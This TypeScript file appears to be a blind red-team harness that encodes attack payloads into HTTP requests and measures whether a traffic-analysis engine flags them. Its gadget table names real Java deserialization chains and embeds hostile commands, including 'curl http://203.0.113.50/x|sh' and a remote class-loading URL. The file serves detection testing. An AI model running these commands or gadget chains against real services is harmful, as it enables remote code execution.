/* Blind red-team harness (blind-b). Payloads in blind-b-cases-*.txt, written from scratch. */
import { readFileSync, writeFileSync, readdirSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { createAnalysisEngine } from '@/runtime/analyzer/engine';
import { buildExchange } from '@/test/fixtures/traffic';

const DIR = __dirname;
const SEP = ' ¦ ';
type Case = { n: number; cls: string; tech: string; place: string; enc: string; payload: string; extra: string; benign: boolean; line: string };

// ---------- Java serialization stream builder ----------
const TPL = 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl';
const GADGETS: Record<string, string[]> = {
  CC1: ['sun.reflect.annotation.AnnotationInvocationHandler', 'org.apache.commons.collections.map.LazyMap', 'org.apache.commons.collections.functors.ChainedTransformer', '[Lorg.apache.commons.collections.Transformer;', 'org.apache.commons.collections.functors.ConstantTransformer', 'java.lang.Runtime', 'org.apache.commons.collections.functors.InvokerTransformer', '"getRuntime', '"exec', '"touch /tmp/cc1'],
  CC2: ['java.util.PriorityQueue', 'org.apache.commons.collections4.comparators.TransformingComparator', 'org.apache.commons.collections4.functors.InvokerTransformer', TPL, '"newTransformer'],
  CC4: ['java.util.PriorityQueue', 'org.apache.commons.collections4.comparators.TransformingComparator', 'org.apache.commons.collections4.functors.ChainedTransformer', 'org.apache.commons.collections4.functors.ConstantTransformer', 'com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter', 'org.apache.commons.collections4.functors.InstantiateTransformer', TPL],
  CC6: ['java.util.HashSet', 'org.apache.commons.collections.keyvalue.TiedMapEntry', 'org.apache.commons.collections.map.LazyMap', 'org.apache.commons.collections.functors.ChainedTransformer', 'org.apache.commons.collections.functors.ConstantTransformer', 'org.apache.commons.collections.functors.InvokerTransformer', '"exec', '"curl http://203.0.113.50/x|sh'],
  CB1: ['java.util.PriorityQueue', 'org.apache.commons.beanutils.BeanComparator', '"outputProperties', TPL],
  SPRING1: ['org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider', 'org.springframework.core.SerializableTypeWrapper$TypeProvider', 'org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler', TPL],
  GROOVY1: ['sun.reflect.annotation.AnnotationInvocationHandler', 'org.codehaus.groovy.runtime.ConvertedClosure', 'org.codehaus.groovy.runtime.MethodClosure', '"execute', '"id'],
  URLDNS: ['java.util.HashMap', 'java.net.URL', '"http://urldns.c7k2p9.oast.fun'],
  C3P0: ['com.mchange.v2.c3p0.PoolBackedDataSource', 'com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase', 'com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized', 'javax.naming.Reference', '"http://203.0.113.50/', '"Exploit'],
  HIBERNATE1: ['java.util.HashMap', 'org.hibernate.engine.spi.TypedValue', 'org.hibernate.type.ComponentType', 'org.hibernate.tuple.component.PojoComponentTuplizer', 'org.hibernate.property.BasicPropertyAccessor$BasicGetter', TPL],
  ROME: ['java.util.HashMap', 'com.sun.syndication.feed.impl.ObjectBean', 'com.sun.syndication.feed.impl.ToStringBean', 'com.sun.syndication.feed.impl.EqualsBean', TPL],
  JDK7U21: ['java.util.LinkedHashSet', TPL, 'sun.reflect.annotation.AnnotationInvocationHandler', 'javax.xml.transform.Templates', '"f5a5a608'],
  CLOJURE: ['java.util.HashMap', 'clojure.inspector.proxy$javax.swing.table.AbstractTableModel$ff19274a', 'clojure.lang.PersistentArrayMap', 'clojure.core$comp', 'clojure.core$constantly', 'clojure.main$eval_opt'],
  BSH1: ['java.util.PriorityQueue', 'bsh.XThis$Handler', 'bsh.XThis', 'bsh.NameSpace', '"compare(Object foo, Object bar) {new java.lang.ProcessBuilder(new String[]{"id"}).start();return new Integer(1);}'],
};
function u16(n: number) { return [(n >> 8) & 255, n & 255]; }
function javaSer(name: string): Buffer {
  const items = GADGETS[name];
  if (!items) throw new Error('no gadget ' + name);
  const out: number[] = [0xac, 0xed, 0x00, 0x05];
  let seed = 7;
  for (const it of items) {
    if (it.startsWith('"')) {
      const s = Buffer.from(it.slice(1));
      out.push(0x74, ...u16(s.length), ...s);
      continue;
    }
    const nm = Buffer.from(it);
    out.push(0x73, 0x72, ...u16(nm.length), ...nm);
    for (let i = 0; i < 8; i++) { seed = (seed * 131 + 17) & 255; out.push(seed); }
    out.push(0x02, ...u16(1), 0x4c, ...u16(1), 0x78, 0x74);
    const ty = Buffer.from('Ljava/lang/Object;');
    out.push(...u16(ty.length), ...ty, 0x78, 0x70);
  }
  out.push(0x78);
  return Buffer.from(out);
}

// ---------- payload materialization ----------
function toks(s: string): string | Buffer {
  s = s.replace(/\{CR\}/g, '\r').replace(/\{LF\}/g, '\n').replace(/\{TAB\}/g, '\t').replace(/\{NUL\}/g, '\0');
  s = s.replace(/\[\[SERB64:(\w+)\]\]/g, (_m, g) => javaSer(g).toString('base64'));
  if (/\{x[0-9A-Fa-f]{2}\}/.test(s)) {
    const parts: Buffer[] = [];
    let last = 0;
    for (const m of s.matchAll(/\{x([0-9A-Fa-f]{2})\}/g)) {
      parts.push(Buffer.from(s.slice(last, m.index), 'utf8'), Buffer.from([parseInt(m[1], 16)]));
      last = m.index! + m[0].length;
    }
    parts.push(Buffer.from(s.slice(last), 'utf8'));
    return Buffer.concat(parts);
  }
  return s;
}
function materialize(p: string): string | Buffer {
  if (p.startsWith('@SER:')) return javaSer(p.slice(5));
  if (p.startsWith('@FILE:')) return readFileSync(`${DIR}/${p.slice(6)}`);
  if (p.startsWith('@UTF16:')) return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(toks(p.slice(7)) as string, 'utf16le')]);
  return toks(p);
}
const asBuf = (v: string | Buffer) => (typeof v === 'string' ? Buffer.from(v, 'utf8') : v);
const asStr = (v: string | Buffer) => (typeof v === 'string' ? v : v.toString('latin1'));
function pct(v: string | Buffer): string {
  let o = '';
  for (const b of asBuf(v)) {
    const c = String.fromCharCode(b);
    o += /[A-Za-z0-9\-_.~]/.test(c) ? c : '%' + b.toString(16).toUpperCase().padStart(2, '0');
  }
  return o;
}
function rawEnc(v: string | Buffer): string {
  let o = '';
  for (const b of asBuf(v)) {
    if (b <= 0x20 || b >= 0x7f || b === 0x23 || b === 0x26) o += '%' + b.toString(16).toUpperCase().padStart(2, '0');
    else o += String.fromCharCode(b);
  }
  return o;
}
function b64mime(b: Buffer) { return (b.toString('base64').match(/.{1,76}/g) || []).join('\r\n'); }
// textual transforms producing a string that is then placed
function transform(v: string | Buffer, enc: string): string | Buffer {
  switch (enc) {
    case 'b64': return asBuf(v).toString('base64');
    case 'b64u': return asBuf(v).toString('base64url');
    case 'b64mime': return b64mime(asBuf(v));
    case 'gzb64': return gzipSync(asBuf(v)).toString('base64');
    case 'hex': return asBuf(v).toString('hex');
    default: return v;
  }
}
// encode for URL-ish contexts (query, path, form value, cookie)
function urlCtx(v: string | Buffer, enc: string): string {
  const t = transform(v, enc);
  switch (enc) {
    case 'url': return pct(t);
    case 'dbl': return pct(pct(t));
    case 'plus': return pct(t).replace(/%20/g, '+');
    case 'raw': case 'none': return rawEnc(t);
    case 'b64': case 'b64mime': case 'gzb64': return pct(t);
    case 'b64u': case 'hex': return asStr(t);
    default: throw new Error('enc ' + enc);
  }
}
function jsonEsc(s: string, mode: 'uni' | 'hex'): string {
  let o = '"';
  for (const ch of s) {
    const cp = ch.codePointAt(0)!;
    if (mode === 'hex' && cp < 256) o += '\\x' + cp.toString(16).padStart(2, '0');
    else if (cp > 0xffff) o += JSON.stringify(ch).slice(1, -1);
    else o += '\\u' + cp.toString(16).padStart(4, '0');
  }
  return o + '"';
}
function stringifyEsc(v: unknown, mode: 'uni' | 'hex'): string {
  if (typeof v === 'string') return jsonEsc(v, mode);
  if (Array.isArray(v)) return '[' + v.map((x) => stringifyEsc(x, mode)).join(',') + ']';
  if (v && typeof v === 'object') return '{' + Object.entries(v).map(([k, x]) => jsonEsc(k, mode) + ':' + stringifyEsc(x, mode)).join(',') + '}';
  return JSON.stringify(v);
}

const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
const BOUNDARY = '----WebKitFormBoundary7MA4YWxkTrZu0gW';
function multipart(parts: Array<{ name: string; filename?: string; ctype?: string; data: string | Buffer }>): Buffer {
  const chunks: Buffer[] = [];
  for (const p of parts) {
    let h = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined) h += `; filename="${asStr(p.filename)}"`;
    h += '\r\n';
    if (p.ctype) h += `Content-Type: ${p.ctype}\r\n`;
    h += '\r\n';
    chunks.push(Buffer.from(h, 'latin1'), asBuf(p.data), Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${BOUNDARY}--\r\n`));
  return Buffer.concat(chunks);
}
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');

function buildSpec(c: Case, id: string) {
  const at = c.place.indexOf('@');
  const kind = c.place.slice(0, at);
  const loc = c.place.slice(at + 1);
  const [k0, ...kargs] = kind.split(':');
  const arg = kargs.join(':');
  const v = materialize(c.payload);
  const ex: Record<string, string[]> = {};
  const flags = new Set<string>();
  if (c.extra) for (const it of c.extra.split(';;')) {
    const eq = it.indexOf('=');
    if (eq < 0) { flags.add(it.trim()); continue; }
    const key = it.slice(0, eq).trim();
    (ex[key] ||= []).push(asStr(toks(it.slice(eq + 1))));
  }
  let method = 'GET';
  let target = loc;
  let host = 'shop.example.com';
  let body: string | Buffer | undefined;
  let ctype: string | undefined;
  const hdrs: Array<[string, string]> = [];
  const setH = (n: string, val: string) => hdrs.push([n, val]);
  let ua = CHROME;
  let cookie: string | undefined;
  switch (k0) {
    case 'q': target = loc + (loc.includes('?') ? '&' : '?') + arg + '=' + urlCtx(v, c.enc); break;
    case 't': target = asStr(v); break;
    case 'path': target = loc.replace('{}', urlCtx(v, c.enc)); break;
    case 'form': method = 'POST'; ctype = 'application/x-www-form-urlencoded'; body = 'csrf_token=7f9a2b1c&' + arg + '=' + urlCtx(v, c.enc); break;
    case 'fraw': method = 'POST'; ctype = 'application/x-www-form-urlencoded'; body = v; break;
    case 'json': {
      method = 'POST'; ctype = 'application/json';
      if (c.enc === 'juni' || c.enc === 'jhex') body = stringifyEsc(JSON.parse(asStr(v)), c.enc === 'juni' ? 'uni' : 'hex');
      else body = v;
      break;
    }
    case 'jf': {
      method = 'POST'; ctype = 'application/json';
      const keys = arg.split('.');
      const val = asStr(transform(v, c.enc));
      const marker = '\u0001MARK\u0001';
      let obj: unknown = marker;
      for (let i = keys.length - 1; i >= 0; i--) obj = i === 0 ? { locale: 'en-US', [keys[i]]: obj } : { [keys[i]]: obj };
      let s = JSON.stringify(obj);
      s = s.replace(JSON.stringify(marker), c.enc === 'uni' ? jsonEsc(val, 'uni') : JSON.stringify(val));
      body = s;
      break;
    }
    case 'mpf': method = 'POST'; ctype = 'multipart/form-data; boundary=' + BOUNDARY;
      body = multipart([{ name: 'title', data: 'Holiday photo' }, { name: arg, data: transform(v, c.enc) }, { name: 'file', filename: 'pic.png', ctype: 'image/png', data: PNG }]); break;
    case 'mpn': method = 'POST'; ctype = 'multipart/form-data; boundary=' + BOUNDARY;
      body = multipart([{ name: 'title', data: 'Holiday photo' }, { name: 'file', filename: asStr(v), ctype: 'image/png', data: PNG }]); break;
    case 'mpc': { method = 'POST'; ctype = 'multipart/form-data; boundary=' + BOUNDARY;
      const ci = arg.indexOf(':');
      body = multipart([{ name: 'description', data: 'upload' }, { name: 'file', filename: arg.slice(0, ci), ctype: arg.slice(ci + 1), data: transform(v, c.enc) }]); break; }
    case 'body': method = 'POST'; ctype = arg; body = transform(v, c.enc); break;
    case 'h': {
      const val = (ex.PFX?.[0] ?? '') + asStr(transform(v, c.enc));
      if (arg.toLowerCase() === 'user-agent') ua = val;
      else if (arg.toLowerCase() === 'cookie') cookie = val;
      else if (arg.toLowerCase() === 'content-type') ctype = val;
      else setH(arg, val);
      break;
    }
    case 'ck': cookie = `_ga=GA1.2.1184421133.1733401200; ${arg}=` + (c.enc === 'none' ? asStr(v) : c.enc === 'b64' ? asStr(transform(v, 'b64')) : urlCtx(v, c.enc)); break;
    case 'basic': setH('Authorization', 'Basic ' + asBuf(v).toString('base64')); break;
    case 'host': host = asStr(v); break;
    default: throw new Error('place ' + c.place);
  }
  if (ex.B) { body = ex.B[0]; if (method === 'GET') method = 'POST'; }
  if (ex.CT) ctype = ex.CT[0];
  if (ex.M) method = ex.M[0];
  const requestHeaders: Array<[string, string]> = [['Host', host], ['User-Agent', ua], ['Accept', 'text/html,application/json;q=0.9,*/*;q=0.8'], ['Accept-Language', 'en-US,en;q=0.9']];
  if (hdrs.some(([n]) => n.toLowerCase() === 'accept-language')) requestHeaders.pop();
  if (ctype) requestHeaders.push(['Content-Type', ctype]);
  if (cookie) requestHeaders.push(['Cookie', cookie]);
  requestHeaders.push(...hdrs);
  for (const h of ex.H || []) { const i = h.indexOf(':'); requestHeaders.push([h.slice(0, i), h.slice(i + 1).replace(/^ /, '')]); }
  if (body !== undefined && !flags.has('NOAUTO') && !requestHeaders.some(([n]) => /^(content-length|transfer-encoding)$/i.test(n))) requestHeaders.push(['Content-Length', String(asBuf(body).length)]);
  const spec: any = { id, method, target, host, requestHeaders };
  if (flags.has('NOAUTO') && !requestHeaders.some(([n]) => /^content-length$/i.test(n))) spec._noCL = true;
  if (body !== undefined) spec.requestBody = body;
  if (ex.S) spec.status = Number(ex.S[0]);
  if (ex.RH) spec.responseHeaders = ex.RH.map((h) => { const i = h.indexOf(':'); return [h.slice(0, i), h.slice(i + 1).trim()]; });
  if (ex.RB) spec.responseBody = ex.RB[0];
  return spec;
}

// ---------- load cases ----------
const cases: Case[] = [];
for (const f of readdirSync(DIR).filter((x) => /^blind-b-cases-.*\.txt$/.test(x)).sort()) {
  for (const line of readFileSync(`${DIR}/${f}`, 'utf8').split('\n')) {
    if (!line.trim() || line.startsWith('#')) continue;
    const cols = line.split(SEP);
    if (cols.length < 5) throw new Error('bad line: ' + line);
    const [cls, tech, place, enc, ...rest] = cols;
    const payload = rest[0];
    const extra = rest.slice(1).join(SEP);
    cases.push({ n: cases.length, cls: cls.trim(), tech: tech.trim(), place: place.trim(), enc: enc.trim(), payload, extra, benign: cls.startsWith('B:'), line });
  }
}

function run(level: number, c: Case) {
  const engine = createAnalysisEngine({ catalog: false, detectionLevel: level } as any);
  const id = `bb-${level}-${c.n}`;
  const sp = buildSpec(c, id);
  const noCL = sp._noCL; delete sp._noCL;
  const x: any = buildExchange(sp);
  if (noCL) x.request.headers = x.request.headers.filter((h: any) => !/^content-length$/i.test(h.name));
  x.client.ip = `198.18.${(c.n >> 8) & 255}.${(c.n & 255) || 1}`;
  const events = engine.analyze(x, { sensorId: 's', sensorTags: [] });
  const m: any = events.find((e: any) => e.msg_type === 'MatchEvent');
  return { alert: !!m, score: m?.anomaly_score ?? 0, matches: (m?.matches || []).map((q: any) => `${q.id}:${q.classification}${q.location ? '@' + q.location : ''}`), types: [...new Set(events.map((e: any) => e.msg_type))] };
}

const only = process.argv[2];
if (only === 'desc') {
  for (const n of process.argv.slice(4).map(Number)) { const lv = Number(process.argv[3]); const engine = createAnalysisEngine({ catalog: false, detectionLevel: lv } as any); const sp = buildSpec(cases[n], 'd' + n); delete sp._noCL; const ev: any[] = engine.analyze(buildExchange(sp), { sensorId: 's', sensorTags: [] }); const m = ev.find((e) => e.msg_type === 'MatchEvent'); console.log(n, cases[n].tech, '=>', m ? m.matches.map((q: any) => q.id + ' ' + q.description + ' [' + q.confidence + ']').join(' | ') + ' score=' + m.anomaly_score : 'none'); }
  process.exit(0);
}
if (only === 'show') {
  for (const n of process.argv.slice(3).map(Number)) { const sp = buildSpec(cases[n], 'show'); if (Buffer.isBuffer(sp.requestBody)) sp.requestBody = sp.requestBody.toString('latin1'); console.log(n, cases[n].tech, JSON.stringify(sp)); }
  process.exit(0);
}
const results: any[] = [];
for (const c of cases) {
  if (only && !c.cls.includes(only)) continue;
  let r1, r4;
  try { r1 = run(1, c); r4 = run(4, c); } catch (e) { console.error('ERR', c.n, c.tech, (e as Error).message); continue; }
  results.push({ n: c.n, cls: c.cls, tech: c.tech, place: c.place, enc: c.enc, payload: c.payload, extra: c.extra, benign: c.benign, l1: r1, l4: r4 });
}
writeFileSync(resultsFile('blind-b'), JSON.stringify(results, null, 1));
// summary
const byCls = new Map<string, { n: number; l1: number; l4: number }>();
for (const r of results) {
  const s = byCls.get(r.cls) || { n: 0, l1: 0, l4: 0 };
  s.n++; if (r.l1.alert) s.l1++; if (r.l4.alert) s.l4++;
  byCls.set(r.cls, s);
}
for (const [k, s] of [...byCls].sort()) console.log(`${k.padEnd(16)} n=${String(s.n).padStart(3)}  L1=${s.l1}/${s.n}  L4=${s.l4}/${s.n}`);

/** Where the per-request results go: a temp folder, so the run leaves the clone clean. */
function resultsFile(set: string): string {
  const dir = require('node:path').join(require('node:os').tmpdir(), set);
  require('node:fs').mkdirSync(dir, { recursive: true });
  return require('node:path').join(dir, 'results.json');
}
